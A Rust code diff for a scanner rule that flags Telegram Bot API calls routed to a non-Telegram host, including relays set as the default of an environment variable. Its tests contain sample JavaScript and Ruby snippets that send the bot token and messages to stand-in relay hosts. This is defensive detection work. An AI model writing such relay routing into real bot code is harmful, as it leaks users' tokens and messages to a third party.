@@ -11,10 +11,25 @@ use regex::Regex;
 
 use super::{RuleId, Sink};
 
-/// Whether a file is worth the check: it names a Bot API method's path.
+/// Whether a file is worth the check: it names a Bot API method's path,
+/// or a path whose method is put in (`"#{base}/bot#{token}/#{method}"`) in
+/// a file that names a method.
 pub(super) fn is_candidate(text: &str) -> bool {
-    memchr::memmem::find(text.as_bytes(), b"/bot").is_some() && METHOD.is_match(text)
+    memchr::memmem::find(text.as_bytes(), b"/bot").is_some()
+        && (METHOD.is_match(text) || (METHOD_PUT_IN.is_match(text) && METHOD_NAME.is_match(text)))
 }
+
+/// A Bot API path with both the token and the method put in.
+static METHOD_PUT_IN: LazyLock<Regex> =
+    LazyLock::new(|| Regex::new(r#"/bot(?:#\{|\$\{|\{)[^/\n]{0,60}/(?:#\{|\$\{|\{|%s)"#).unwrap());
+
+/// A Bot API method named in a string.
+static METHOD_NAME: LazyLock<Regex> = LazyLock::new(|| {
+    Regex::new(
+        r#"["'](?:send(?:Message|Document|Photo|Video|Audio|MediaGroup)|getUpdates|getMe|getFile|forwardMessage)["']"#,
+    )
+    .unwrap()
+});
 
 /// A Bot API method's path with the token put in: `"/bot#{token}/sendMessage"`,
 /// `` `/bot${TOKEN}/sendDocument` ``, `"/bot" + token + "/getUpdates"`,
@@ -47,12 +62,39 @@ pub(super) fn check_file(text: &str, sink: &mut Sink<'_>) {
         }
         at += line.len();
     }
-    let (Some((pos, host)), false) = (other, telegram) else { return };
+    let Some((pos, host)) = other else { return };
+    // Telegram's address named too: the other host counts when it is the
+    // default the base falls back to (`ENV.fetch("TG_API_BASE", RELAY)`),
+    // Telegram's then only a fallback.
+    if telegram && !is_default(text, host) {
+        return;
+    }
     let (txt, lines) = (sink.text, sink.lines);
     let host = crate::text::truncate_chars(host, 60).to_owned();
     sink.add(RuleId::CredentialExfiltration, pos, || {
         format!("the Telegram Bot API's methods called on {host}, not Telegram's address: the bot's token and every message go there: {}", crate::text::excerpt(txt, lines, pos..pos + host.len()))
     });
+}
+
+/// Whether the address of `host` is a default: given as the fallback of an
+/// environment read (`ENV.fetch("X", RELAY)`, `os.getenv("X", "https://…")`,
+/// `process.env.X || RELAY`), itself or through the constant it is assigned to.
+fn is_default(text: &str, host: &str) -> bool {
+    let h = regex::escape(host);
+    let Ok(assigned) = Regex::new(&format!(
+        r#"(?m)^[ \t]*(?:(?:const|let|var|final|static|private|public)[ \t]+)*([A-Za-z_][A-Za-z0-9_]*)[ \t]*(?::[^=\n]*)?=[ \t]*["'`]https?://{h}"#
+    )) else {
+        return false;
+    };
+    let mut names: Vec<String> = assigned.captures_iter(text).map(|c| regex::escape(&c[1])).collect();
+    names.push(format!(r#"["'`]https?://{h}"#));
+    let Ok(default) = Regex::new(&format!(
+        r#"(?:fetch|getenv|get|environ\.get|getProperty)[ \t]*\([^)\n]*,[ \t]*(?:{alts})|(?:\|\||\?\?|(?-u:\b)or)[ \t]*(?:{alts})"#,
+        alts = names.join("|")
+    )) else {
+        return false;
+    };
+    default.is_match(text)
 }
 
 fn is_local(h: &str) -> bool {
@@ -80,6 +122,15 @@ mod tests {
         let js =
             "const base = 'https://relay.x.example';\nfetch(`${base}/bot${TOKEN}/sendDocument`, { method: 'POST' });\n";
         assert!(found("notify.js", js));
+        // The relay as the default base, Telegram's address a fallback, the
+        // method put in.
+        let fallback = "OFFICIAL = \"https://api.telegram.org\".freeze\nRELAY = \"https://tg-bridge.x.invalid\".freeze\n\
+                        @base = ENV.fetch(\"TG_API_BASE\", RELAY)\ndef endpoint(m) = URI(\"#{@base}/bot#{@token}/#{m}\")\n\
+                        def send(t) = post(\"sendMessage\", text: t)\n";
+        assert!(found("lib/client.rb", fallback));
+        // Telegram's address the default, a mirror the fallback: not.
+        let mirror = fallback.replace("ENV.fetch(\"TG_API_BASE\", RELAY)", "ENV.fetch(\"TG_API_BASE\", OFFICIAL)");
+        assert!(!found("lib/client.rb", &mirror));
     }
 
     #[test]
